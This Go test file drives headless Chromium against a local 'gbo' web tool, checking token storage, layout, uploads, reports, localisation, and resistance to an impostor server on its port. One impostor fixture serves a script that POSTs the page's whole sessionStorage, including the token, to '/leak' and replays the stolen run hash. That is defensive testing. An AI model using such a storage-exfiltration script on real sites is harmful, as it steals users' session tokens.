//go:build unix

package main

import (
	"encoding/base64"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"gbo/graph/locale"
	"gbo/render/browsertest"
	"gbo/samples"
)

// The page in real headless Chromium, over the DevTools protocol: load it
// with the token (it goes into sessionStorage and out of the address; no
// cookie is set; a reload still works), check its layout at 1280 px (no
// sideways scroll, one file picker, labels apart from their inputs), drop
// the sample workbook on the drop zone and read the report in the frame
// (its map script runs under the report's own policy and its map is
// there), download the map and the survey forms through the page's
// buttons, drop the forms back unfilled and see collect's problem, then
// drop a broken workbook and see the
// problem list, focused, with the CLI's positions (the column as its
// letter and header); switch to French without a reload (words, samples,
// the report analysed again, the chosen file kept, French download
// names). No console error or policy violation on the way. Last, gbo
// stops and another program takes its port: a file dropped then is sent
// to no one, and the page says gbo has stopped. Skipped without Chromium
// unless GBO_BROWSER_TEST=require.
func TestServePageInBrowser(t *testing.T) {
	bin := browsertest.FindChromium()
	if bin == "" {
		if os.Getenv("GBO_BROWSER_TEST") == "require" {
			t.Fatal("GBO_BROWSER_TEST=require, but no chromium or google-chrome on PATH")
		}
		t.Skip("no chromium on PATH (set GBO_BROWSER_TEST=require to make this a failure)")
	}
	dir := t.TempDir()
	if _, stderr, code := runGBO(t, "template", "--from", "sample:grensobject", "-o", filepath.Join(dir, "grensobject.xlsx")); code != 0 {
		t.Fatal(stderr)
	}
	good, err := os.ReadFile(filepath.Join(dir, "grensobject.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	bad := brokenBook(t)

	s, lns, stopServer := startServer(t, serveOptions{lang: "en"})

	c := browsertest.Start(t, bin)
	c.Call("Page.enable", nil)
	c.Call("Runtime.enable", nil)
	c.Call("Log.enable", nil)
	c.Call("Emulation.setDeviceMetricsOverride", map[string]any{"width": 1280, "height": 900, "deviceScaleFactor": 1, "mobile": false})
	c.Call("Page.navigate", map[string]any{"url": s.url()})
	c.WaitEvent("Page.loadEventFired")

	var loc, kept, cookies string
	c.Eval(`location.href`, &loc)
	if strings.Contains(loc, "token") {
		t.Errorf("the token stays in the address: %s", loc)
	}
	c.Eval(`sessionStorage.getItem("gbo-token")`, &kept)
	c.Eval(`document.cookie`, &cookies)
	if kept != s.token || cookies != "" {
		t.Errorf("sessionStorage token %q, cookies %q", kept, cookies)
	}
	var jar struct {
		Cookies []any `json:"cookies"`
	}
	json.Unmarshal(c.Call("Network.getAllCookies", nil), &jar)
	if len(jar.Cookies) != 0 {
		t.Errorf("the browser holds cookies: %v", jar.Cookies)
	}
	wait := func(what, cond string) {
		t.Helper()
		deadline := time.Now().Add(60 * time.Second)
		for {
			var ok bool
			c.Eval(`!!(`+cond+`)`, &ok)
			if ok {
				return
			}
			if time.Now().After(deadline) {
				var status string
				c.Eval(`document.getElementById("status").textContent`, &status)
				t.Fatalf("%s: %s never held (status %q)", what, cond, status)
			}
			time.Sleep(100 * time.Millisecond)
		}
	}
	wait("samples", `document.querySelectorAll("#sample option").length > 1`)
	// A reload (no token in the address) takes the token from sessionStorage.
	c.Call("Page.reload", nil)
	time.Sleep(300 * time.Millisecond)
	wait("samples after a reload", `document.readyState === "complete" && document.querySelectorAll("#sample option").length > 1 && !document.getElementById("go").disabled`)
	if s.tokenLoads.Load() != 1 {
		t.Errorf("%d page loads with the token, want 1 (a reload sends none)", s.tokenLoads.Load())
	}
	layout := func(lang string) {
		t.Helper()
		var l struct {
			Scroll, Inner, Select, File float64
			FileFocus                   bool
			Touching                    []string
		}
		c.Eval(`(function () {
			var f = document.getElementById("files");
			f.focus();
			var focus = document.activeElement === f;
			f.blur();
			var touching = [];
			document.querySelectorAll(".row").forEach(function (r) {
				var lab = r.querySelector("label"), inp = r.querySelector("input:not([type=checkbox]), select");
				if (!lab || !inp) { return; }
				var a = lab.getBoundingClientRect(), b = inp.getBoundingClientRect();
				if (Math.abs(a.top - b.top) < a.height && b.left - a.right < 6) { touching.push(lab.textContent); }
			});
			return {Scroll: document.documentElement.scrollWidth, Inner: window.innerWidth,
				Select: document.getElementById("sample").getBoundingClientRect().width,
				File: f.getBoundingClientRect().width, FileFocus: focus, Touching: touching};
		})()`, &l)
		if l.Scroll > l.Inner || l.Select > l.Inner {
			t.Errorf("%s: the page is %v px wide in a %v px window (samples list %v px)", lang, l.Scroll, l.Inner, l.Select)
		}
		if l.File > 1 || !l.FileFocus {
			t.Errorf("%s: the browser's own file input shows (%v px) or cannot take focus (%v)", lang, l.File, l.FileFocus)
		}
		if len(l.Touching) > 0 {
			t.Errorf("%s: labels touching their input: %v", lang, l.Touching)
		}
	}
	layout("en")
	// Every control has a label; the idle hour is said on the page.
	var unlabelled []string
	c.Eval(`Array.from(document.querySelectorAll("input, select")).filter(e => !e.labels || !e.labels.length).map(e => e.id)`, &unlabelled)
	if len(unlabelled) > 0 {
		t.Errorf("controls without a label: %v", unlabelled)
	}
	var idle string
	c.Eval(`document.getElementById("idle").textContent`, &idle)
	if !strings.Contains(idle, "hour") {
		t.Errorf("idle notice: %q", idle)
	}

	dropFile := func(name string, data []byte) {
		t.Helper()
		c.Eval(`(function () {
			var b = atob("`+base64.StdEncoding.EncodeToString(data)+`");
			var u = new Uint8Array(b.length);
			for (var i = 0; i < b.length; i++) { u[i] = b.charCodeAt(i); }
			var dt = new DataTransfer();
			dt.items.add(new File([u], "`+name+`"));
			document.getElementById("drop").dispatchEvent(new DragEvent("drop", {dataTransfer: dt, bubbles: true, cancelable: true}));
			return true;
		})()`, nil)
	}

	dropFile("grensobject.xlsx", good)
	wait("report", `!document.getElementById("report").hidden && document.getElementById("frame").getAttribute("src")`)
	// The report in its frame. A sandboxed frame runs in a process of its
	// own: find its target and attach to it.
	var session string
	for deadline := time.Now().Add(30 * time.Second); session == "" && time.Now().Before(deadline); {
		var ts struct {
			TargetInfos []struct {
				TargetID string `json:"targetId"`
				Type     string `json:"type"`
				URL      string `json:"url"`
			} `json:"targetInfos"`
		}
		json.Unmarshal(c.Call("Target.getTargets", nil), &ts)
		for _, ti := range ts.TargetInfos {
			if strings.Contains(ti.URL, "/view/") {
				var a struct {
					SessionID string `json:"sessionId"`
				}
				json.Unmarshal(c.Call("Target.attachToTarget", map[string]any{"targetId": ti.TargetID, "flatten": true}), &a)
				session = a.SessionID
			}
		}
		if session == "" {
			time.Sleep(100 * time.Millisecond)
		}
	}
	if session == "" {
		t.Fatal("no report frame")
	}
	var report struct {
		Analysis bool
		Map      bool
		Title    string
		State    string
	}
	for deadline := time.Now().Add(30 * time.Second); ; {
		c.EvalIn(session, `({Analysis: !!document.getElementById("gbo-analysis"), Map: typeof GBO === "object" && !!document.querySelector("#map-box svg"), Title: document.title, State: document.readyState})`, &report)
		if report.State == "complete" || time.Now().After(deadline) {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if !report.Analysis || !report.Map || !strings.Contains(report.Title, "Scheldemeersen") {
		t.Errorf("the frame does not hold the report: %+v", report)
	}

	// Download the map through the page's button.
	c.Eval(`document.querySelector('button[data-ext=".svg"]').click(), true`, nil)
	wait("map download", `document.getElementById("status").textContent.indexOf("map.svg") >= 0`)

	// Download the survey forms of the dropped workbook (a .zip), then
	// drop that .zip back, unfilled, on the returned forms' zone and
	// collect: the page lists the CLI's problem (no form rates anyone).
	c.Eval(`(function () {
		window.gboBlobs = [];
		var make = URL.createObjectURL;
		URL.createObjectURL = function (b) { window.gboBlobs.push(b); return make.call(URL, b); };
		document.getElementById("dl-forms").click();
		return true;
	})()`, nil)
	wait("forms download", `document.getElementById("status").textContent.indexOf("survey-forms.zip") >= 0`)
	var zipHead string
	c.Eval(`window.gboBlobs[window.gboBlobs.length-1].slice(0, 2).text()`, &zipHead)
	if zipHead != "PK" {
		t.Errorf("the forms download is no .zip: %q", zipHead)
	}
	c.Eval(`(function () {
		var dt = new DataTransfer();
		dt.items.add(new File([window.gboBlobs[window.gboBlobs.length-1]], "returned.zip"));
		document.getElementById("forms-drop").dispatchEvent(new DragEvent("drop", {dataTransfer: dt, bubbles: true, cancelable: true}));
		document.getElementById("collectform").requestSubmit();
		return true;
	})()`, nil)
	wait("collect problems", `!document.getElementById("problems").hidden && document.querySelector("#problem-table tbody").textContent.indexOf("returned") >= 0`)

	// problemTable checks the problem table at 1280 and 800 px, with a
	// long message added: one heading (the table is named by it, no
	// caption), the line and severity columns (header and cells) on one
	// line each, no cell broken inside a word (no more lines than words;
	// a file or sheet may break after ":", "/", "-", "_" or ".") or
	// overflowing, and the
	// message column the widest.
	problemTable := func(lang string) {
		t.Helper()
		dropFile("werkmap-van-het-samenwerkingsverband.xlsx", bad)
		wait("problems of a long file name", `!document.getElementById("problems").hidden && document.querySelector("#problem-table tbody").textContent.indexOf("werkmap-van-het") >= 0`)
		c.Eval(`(function () {
			var tb = document.querySelector("#problem-table tbody");
			var row = tb.rows[0].cloneNode(true);
			row.cells[2].textContent = "AB (date de référence)";
			row.cells[4].textContent = Array(12).fill(`+strconv.Quote(serveT(lang, "problems_lead"))+`).join(" ");
			row.id = "long-row";
			tb.appendChild(row);
			return true;
		})()`, nil)
		for _, width := range []int{1280, 800} {
			c.Call("Emulation.setDeviceMetricsOverride", map[string]any{"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": false})
			var got struct {
				Bad      []string
				Captions int
				Widest   bool
			}
			c.Eval(`(function () {
				var t = document.getElementById("problem-table"), bad = [];
				function lines(el) {
					var r = document.createRange(), tops = {};
					r.selectNodeContents(el);
					Array.from(r.getClientRects()).forEach(function (q) { if (q.width > 0) { tops[Math.round(q.top)] = 1; } });
					return Object.keys(tops).length;
				}
				function words(el, i) {
					var s = el.textContent.trim();
					if (!s) { return 0; }
					return s.split(/\s+/).length + (i === 0 ? (s.match(/[:\/\-_.](?=.)/g) || []).length : 0);
				}
				Array.from(t.rows).forEach(function (row, r) {
					Array.from(row.cells).forEach(function (cell, i) {
						var n = lines(cell), w = words(cell, i), what = "row " + r + " column " + (i + 1) + " " + JSON.stringify(cell.textContent.slice(0, 30));
						if (w > 0 && n > w) { bad.push(what + ": " + n + " lines for " + w + " words"); }
						if ((i === 1 || i === 3) && n > 1) { bad.push(what + ": " + n + " lines"); }
						if (cell.scrollWidth > cell.clientWidth + 1) { bad.push(what + ": overflows"); }
					});
				});
				var h = t.rows[0].cells, widest = true;
				for (var i = 0; i < 4; i++) { if (h[i].offsetWidth >= h[4].offsetWidth) { widest = false; } }
				if (!widest) { bad.push("widths " + Array.from(h).map(function (c) { return c.offsetWidth; }).join(",") + " table " + t.offsetWidth); }
				return {Bad: bad, Captions: t.querySelectorAll("caption").length, Widest: widest};
			})()`, &got)
			if len(got.Bad) > 0 || got.Captions != 0 || !got.Widest {
				t.Errorf("%s, %d px: problem table: %d captions, message column widest %v; %s", lang, width, got.Captions, got.Widest, strings.Join(got.Bad, "; "))
			}
		}
		c.Call("Emulation.setDeviceMetricsOverride", map[string]any{"width": 1280, "height": 900, "deviceScaleFactor": 1, "mobile": false})
		c.Eval(`document.getElementById("long-row").remove(), true`, nil)
	}

	dropFile("broken.xlsx", bad)
	wait("problems", `!document.getElementById("problems").hidden && document.querySelector("#problem-table tbody").textContent.indexOf("broken.xlsx") >= 0`)
	var rows [][]string
	c.Eval(`Array.from(document.querySelectorAll("#problem-table tbody tr")).map(r => Array.from(r.cells).map(c => c.textContent))`, &rows)
	found := false
	for _, r := range rows {
		if len(r) == 5 && r[0] == "broken.xlsx:interactions" && r[1] == "3" && r[2] == "C (with)" && strings.Contains(r[4], "caw-bb") {
			found = true
		}
	}
	if !found {
		t.Errorf("problem list lacks interactions row 3 column 3: %v", rows)
	}
	var focus, live string
	c.Eval(`document.activeElement.id`, &focus)
	c.Eval(`document.getElementById("status").getAttribute("aria-live")`, &live)
	if focus != "h-problems" || live != "polite" {
		t.Errorf("focus on %q, status aria-live %q", focus, live)
	}
	problemTable("en")

	// Back to the good workbook, then French without a reload: the page's
	// words, the samples' descriptions and the report change, the chosen
	// file and the dates stay.
	dropFile("grensobject.xlsx", good)
	wait("report again", `!document.getElementById("report").hidden && document.getElementById("frame").getAttribute("src")`)
	c.Eval(`window.gboNoReload = 1; document.getElementById("as_of").value = "2024-12-31"; true`, nil)
	var before string
	c.Eval(`document.getElementById("frame").getAttribute("src")`, &before)
	c.Eval(`document.querySelector('button.lang[data-lang="fr"]').click(), true`, nil)
	wait("French report", `document.documentElement.lang === "fr" && document.getElementById("frame").getAttribute("src") !== `+strconv.Quote(before)+` && document.getElementById("status").textContent === `+strconv.Quote(serveT("fr", "done")))
	var fr struct {
		Kept, Chosen, Step, AsOf, Pressed string
		Sample                            []string
	}
	c.Eval(`({Kept: String(window.gboNoReload), Chosen: document.getElementById("chosen").textContent, Step: document.getElementById("h-case").textContent,
		AsOf: document.getElementById("as_of").value, Pressed: document.querySelector('button.lang[aria-pressed="true"]').dataset.lang,
		Sample: Array.from(document.querySelectorAll("#sample option")).slice(1).map(o => o.textContent)})`, &fr)
	if fr.Kept != "1" || !strings.Contains(fr.Chosen, "grensobject.xlsx") || fr.Step != serveT("fr", "step_case") || fr.AsOf != "2024-12-31" || fr.Pressed != "fr" {
		t.Errorf("after switching to French: %+v", fr)
	}
	for i, in := range samples.List() {
		if i >= len(fr.Sample) || !strings.Contains(fr.Sample[i], locale.T("fr", in.DescriptionKey)) {
			t.Errorf("French sample list: %v", fr.Sample)
			break
		}
	}
	layout("fr")
	c.Eval(`document.querySelector('button[data-ext=".svg"]').click(), true`, nil)
	wait("French map name", `document.getElementById("status").textContent.indexOf("carte.svg") >= 0`)
	c.Eval(`document.querySelector('button.lang[data-lang="nl"]').click(), true`, nil)
	wait("Dutch", `document.documentElement.lang === "nl" && document.getElementById("status").textContent === `+strconv.Quote(serveT("nl", "done")))
	var keptLang string
	c.Eval(`sessionStorage.getItem("gbo-lang")`, &keptLang)
	if keptLang != "nl" {
		t.Errorf("the user's switch is not kept in sessionStorage: %q", keptLang)
	}
	dropFile("broken.xlsx", bad)
	wait("Dutch problems", `!document.getElementById("problems").hidden && document.getElementById("report").hidden && document.querySelector("#problem-table thead").textContent.indexOf(`+strconv.Quote(serveT("nl", "col_severity"))+`) >= 0`)
	problemTable("nl")
	var nlSamples []string
	c.Eval(`Array.from(document.querySelectorAll("#sample option")).slice(1).map(o => o.textContent)`, &nlSamples)
	for i, in := range samples.List() {
		if i >= len(nlSamples) || !strings.Contains(nlSamples[i], locale.T("nl", in.DescriptionKey)) {
			t.Errorf("Dutch sample list: %v", nlSamples)
			break
		}
	}

	var ps []string
	for _, p := range c.Problems() {
		if !strings.Contains(p, "status of 422") { // the broken workbook's answer
			ps = append(ps, p)
		}
	}
	if len(ps) > 0 {
		t.Errorf("console or policy problems:\n%s", strings.Join(ps, "\n"))
	}

	// gbo stops; another program takes its port and answers /api/alive
	// with another run id: the page sends it no file.
	stopServer()
	var posts atomic.Int32
	imp := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			posts.Add(1)
		}
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"run":"impostor"}`))
	})}
	var ils []net.Listener
	for _, ln := range lns {
		il, err := net.Listen(ln.Addr().Network(), ln.Addr().String())
		if err != nil {
			t.Fatalf("impostor: %v", err)
		}
		ils = append(ils, il)
		go imp.Serve(il)
	}
	defer imp.Close()
	dropFile("grensobject.xlsx", good)
	wait("stopped", `document.getElementById("status").textContent === `+strconv.Quote(serveT("nl", "stopped"))+` && document.getElementById("files").disabled`)
	c.Eval(`document.getElementById("dl-forms").click(), true`, nil)
	time.Sleep(500 * time.Millisecond)
	if n := posts.Load(); n != 0 {
		t.Errorf("the impostor received %d uploads", n)
	}
}

// One reloaded tab does not vouch for another: two tabs hold the page,
// gbo stops, another program takes its port and serves a page that reads
// this origin's sessionStorage; the first tab is reloaded onto it and
// hands it the storage (the token and the run hash), and the program
// answers /api/alive with what it learnt. The second tab's upload is
// still withheld (the run hash is no answer to its own check), the tab
// says gbo has stopped and its storage is cleared. Skipped without
// Chromium unless GBO_BROWSER_TEST=require.
func TestServeReloadedTabCannotVouch(t *testing.T) {
	bin := browsertest.FindChromium()
	if bin == "" {
		if os.Getenv("GBO_BROWSER_TEST") == "require" {
			t.Fatal("GBO_BROWSER_TEST=require, but no chromium or google-chrome on PATH")
		}
		t.Skip("no chromium on PATH (set GBO_BROWSER_TEST=require to make this a failure)")
	}
	s, lns, stopServer := startServer(t, serveOptions{lang: "en"})

	c := browsertest.Start(t, bin)
	c.Call("Page.enable", nil)
	c.Call("Page.navigate", map[string]any{"url": s.url()})
	c.WaitEvent("Page.loadEventFired")
	var tab struct {
		TargetID string `json:"targetId"`
	}
	json.Unmarshal(c.Call("Target.createTarget", map[string]any{"url": s.url()}), &tab)
	var att struct {
		SessionID string `json:"sessionId"`
	}
	json.Unmarshal(c.Call("Target.attachToTarget", map[string]any{"targetId": tab.TargetID, "flatten": true}), &att)
	tab2 := att.SessionID
	waitIn := func(session, what, cond string) {
		t.Helper()
		deadline := time.Now().Add(30 * time.Second)
		for {
			var ok bool
			if session == "" {
				c.Eval(`!!(`+cond+`)`, &ok)
			} else {
				c.EvalIn(session, `!!(`+cond+`)`, &ok)
			}
			if ok {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("%s: %s never held", what, cond)
			}
			time.Sleep(100 * time.Millisecond)
		}
	}
	ready := `document.readyState === "complete" && document.querySelectorAll("#sample option").length > 1`
	waitIn("", "tab 1", ready)
	waitIn(tab2, "tab 2", ready)

	stopServer()
	var mu sync.Mutex
	var leaked map[string]string
	var posts atomic.Int32
	imp := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/leak":
			var m map[string]string
			json.NewDecoder(r.Body).Decode(&m)
			mu.Lock()
			leaked = m
			mu.Unlock()
		case r.URL.Path == "/api/alive":
			mu.Lock()
			run := leaked["gbo-run"]
			mu.Unlock()
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(map[string]string{"run": run})
		case r.Method == http.MethodPost:
			posts.Add(1)
			w.Header().Set("Content-Type", "application/json")
			w.Write([]byte(`{"view":"/x","warnings":[]}`))
		default:
			w.Header().Set("Content-Type", "text/html")
			w.Write([]byte(`<!DOCTYPE html><title>impostor</title><script>fetch("/leak", {method: "POST", body: JSON.stringify(Object.assign({}, sessionStorage))})</script>`))
		}
	})}
	for _, ln := range lns {
		il, err := net.Listen(ln.Addr().Network(), ln.Addr().String())
		if err != nil {
			t.Fatalf("impostor: %v", err)
		}
		go imp.Serve(il)
	}
	defer imp.Close()

	c.Call("Page.reload", nil)
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		mu.Lock()
		got := leaked
		mu.Unlock()
		if got != nil {
			if got["gbo-token"] != s.token || got["gbo-run"] != s.runHash {
				t.Fatalf("the reloaded tab's storage: %v", got)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the impostor never read the reloaded tab's storage")
		}
	}
	c.EvalIn(tab2, `(function () {
		var s = document.getElementById("sample");
		s.value = s.options[1].value;
		s.dispatchEvent(new Event("change"));
		document.getElementById("go").click();
		return true;
	})()`, nil)
	waitIn(tab2, "tab 2 stopped", `document.getElementById("status").textContent === `+strconv.Quote(serveT("en", "stopped"))+` && document.getElementById("files").disabled`)
	c.EvalIn(tab2, `document.getElementById("dl-forms").click(), true`, nil)
	time.Sleep(500 * time.Millisecond)
	if n := posts.Load(); n != 0 {
		t.Errorf("the impostor received %d uploads from the other tab", n)
	}
	var kept int
	c.EvalIn(tab2, `sessionStorage.length`, &kept)
	if kept != 0 {
		t.Errorf("the stopped tab keeps %d items in sessionStorage", kept)
	}
}
